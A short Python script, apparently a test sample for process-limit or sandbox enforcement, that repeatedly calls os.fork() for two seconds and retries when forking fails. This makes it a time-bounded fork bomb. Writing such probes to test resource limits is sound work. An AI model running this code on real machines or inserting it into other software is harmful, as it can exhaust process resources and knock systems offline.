"""Forks as long as it can."""

import os
import time

end = time.monotonic() + 2
while time.monotonic() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
